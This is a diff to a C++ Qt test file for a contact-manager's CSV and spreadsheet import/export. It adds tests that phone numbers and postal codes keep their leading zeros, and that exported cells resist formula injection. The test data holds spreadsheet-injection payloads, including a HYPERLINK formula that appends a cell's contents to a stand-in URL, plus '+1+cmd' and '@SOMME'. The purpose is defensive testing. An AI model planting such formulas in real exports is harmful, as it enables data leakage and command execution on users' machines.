@@ -3,6 +3,8 @@
 #include "support/basetest.h"
 #include "support/outil.h"
 
+#include <QProcess>
+#include <QStandardPaths>
 #include <QtTest>
 
 // What the person typed, with a double quote, a semicolon, line breaks, accents and emoji.
@@ -152,7 +154,9 @@ private slots:
         BaseTest base;
         ecrire(base.dossier() + "/clients.csv", "Nom;Code postal;Téléphone;Ville;Site web\r\n"
                                                 "Garage Martin;06000;+33 4 93 00 00 00;Nice;\r\n"
-                                                ";;;;\r\n");
+                                                ";;;;\r\n"
+                                                "Garage Durand;1000;33612345678;Belley;\r\n"
+                                                "Garage Petit;75001;612345678;Paris;\r\n");
         ecrire(base.dossier() + "/contacts.csv",
                "Nom;Société;Prénom;Tél.;Mobile;Courriel;Principal;Température;Remarques\r\n"
                "Durand;Garage Martin;Zoé;04 93;06 12;z@x.fr;oui;Tiède;vu au salon\r\n");
@@ -164,8 +168,11 @@ private slots:
                                           {"interlocuteurs", "contacts.csv"},
                                           {"actions", "actions.csv"}})
             QVERIFY(outilDit(base.dossier(), QStringList{"import", "Brevanta.mdb"} + import, 0));
-        QCOMPARE(valeur(base.fichier(), "select Nom, CP, Tel, Ville from Client"),
-                 "Garage Martin|06000|+33 4 93 00 00 00|Nice");
+        // A spreadsheet's number loses its leading zero or +; the import gives it back.
+        QCOMPARE(lignesFichier(base.fichier(), "select Nom, CP, Tel, Ville from Client order by Nom"),
+                 (QStringList{"Garage Durand|01000|+33612345678|Belley",
+                              "Garage Martin|06000|+33 4 93 00 00 00|Nice",
+                              "Garage Petit|75001|0612345678|Paris"}));
         QCOMPARE(valeur(base.fichier(), "select Client, Prenom, Tel, Portable, email, ContactPrincipal, "
                                         "Temperature, Commentaire from Interlocuteur"),
                  "Garage Martin|Zoé|04 93|06 12|z@x.fr|1|3|vu au salon");
@@ -182,6 +189,83 @@ private slots:
                          {"import", "Brevanta.mdb", "clients", "autres.csv", "--ignorer-colonnes"}, 0,
                          "Colonne inconnue, ignorée : Humeur"));
         QCOMPARE(valeur(base.fichier(), "select CP from Client where Nom = 'Dupont'"), "75001");
+    }
+
+    // An export opened and saved again by LibreOffice set to French, as CSV files or as a workbook,
+    // imports back with nothing added and, into an empty base, gives the same export: no formula
+    // evaluated, no leading zero lost.
+    void tableurLibreOffice() {
+        const QString soffice = QStandardPaths::findExecutable("soffice");
+        if (soffice.isEmpty())
+            QSKIP("LibreOffice absent : apt-get install libreoffice-calc-nogui.");
+        BaseTest base;
+        QCOMPARE(QFile::remove(base.fichier()), true);
+        QCOMPARE(lancerOutil(base.dossier(), {"demo", "Brevanta.mdb"}).code, 0);
+        base.sqlite("insert into Client (Nom, CP, Tel, Fax) values ('=1+1', '06000', '0612345678', "
+                    "'+33612345678'), ('=HYPERLINK($Bhttp://x$B&A1;$Bcliquez$B)', '01000', '', ''), "
+                    "('@SOMME(A1)', '', '-2', ''), ('Dupont, fils', '', '', '')");
+        base.sqlite(
+            "insert into Interlocuteur (Nom, Client, Portable, ContactPrincipal, Technique, Financier, "
+            "Temperature) values ('+1+cmd', '=1+1', '0712345678', 1, 0, 0, 2)");
+        QCOMPARE(lancerOutil(base.dossier(), {"export", "Brevanta.mdb", "un"}).code, 0);
+        QCOMPARE(
+            lancerOutil(base.dossier(), {"export", "Brevanta.mdb", "classeur.xlsx", "--format", "xlsx"}).code,
+            0);
+        const QStringList genres{"clients", "interlocuteurs", "actions", "rendez-vous"};
+        // LibreOffice in French: CSV read and written with ";" and UTF-8, every sheet of the workbook
+        // to its own file, cells as shown.
+        const QString filtre = "Text - txt - csv (StarCalc)";
+        const auto convertir = [&](const QString& dossier, const QStringList& fichiers,
+                                   const QStringList& lecture) {
+            QProcess p;
+            QProcessEnvironment env = QProcessEnvironment::systemEnvironment();
+            env.insert("LC_ALL", "fr_FR.UTF-8");
+            env.insert("LANG", "fr_FR.UTF-8");
+            p.setProcessEnvironment(env);
+            p.start(soffice,
+                    QStringList{"-env:UserInstallation=file://" + base.dossier() + "/profil", "--headless"} +
+                        lecture +
+                        QStringList{"--convert-to",
+                                    "csv:" + filtre + ":59,34,76,1,,1036,false,false,true,false,false,-1",
+                                    "--outdir", base.dossier() + "/" + dossier} +
+                        fichiers);
+            return p.waitForFinished(180000) && p.exitCode() == 0;
+        };
+        QStringList fichiers;
+        for (const QString& g : genres)
+            fichiers << base.dossier() + "/un/" + g + ".csv";
+        QVERIFY(convertir("lo", fichiers, {"--infilter=" + filtre + ":59,34,76,1,,1036"}));
+        QVERIFY(convertir("lox", {base.dossier() + "/classeur.xlsx"}, {}));
+        // The cells show text, not results; the spreadsheet took the numbers' leading zeros off.
+        const QByteArray clients = contenu(base.dossier() + "/lo/clients-clients.csv");
+        QVERIFY2(clients.contains("\n'=1+1;;;6000;612345678;33612345678;") &&
+                     clients.contains("\n\"'=HYPERLINK('http://x'&A1;'cliquez')\";") &&
+                     clients.contains("\n'@SOMME(A1);"),
+                 clients.constData());
+        const QByteArray feuille = contenu(base.dossier() + "/lox/classeur-clients.csv");
+        QVERIFY2(feuille.contains("\n=1+1;;;06000;0612345678;+33612345678;") &&
+                     feuille.contains("\n\"=HYPERLINK('http://x'&A1;'cliquez')\";;;01000;"),
+                 feuille.constData());
+        for (const QString& g : genres) {
+            const Resultat r =
+                lancerOutil(base.dossier(), {"import", "Brevanta.mdb", g, "lo/" + g + "-" + g + ".csv"});
+            QVERIFY2(r.code == 0 && r.sortie.startsWith("0 ligne(s) importée(s)"),
+                     qPrintable(r.sortie + r.erreurs));
+        }
+        for (const char* source : {"lo/%1-%1.csv", "lox/classeur-%1.csv"}) {
+            QVERIFY(QFile::remove(base.dossier() + "/vide.mdb") ||
+                    !QFile::exists(base.dossier() + "/vide.mdb"));
+            QCOMPARE(lancerOutil(base.dossier(), {"init", "vide.mdb"}).code, 0);
+            for (const QString& g : genres) {
+                const Resultat r =
+                    lancerOutil(base.dossier(), {"import", "vide.mdb", g, QString(source).arg(g)});
+                QVERIFY2(r.code == 0, qPrintable(QString(source) + r.erreurs));
+            }
+            QCOMPARE(lancerOutil(base.dossier(), {"export", "vide.mdb", "deux"}).code, 0);
+            for (const QString& g : genres)
+                QCOMPARE(QString::fromUtf8(contenu(base.dossier() + "/deux/" + g + ".csv")),
+                         QString::fromUtf8(contenu(base.dossier() + "/un/" + g + ".csv")));
+        }
     }
 
     // A spreadsheet saved the old Windows way, commas between fields, dates typed short.
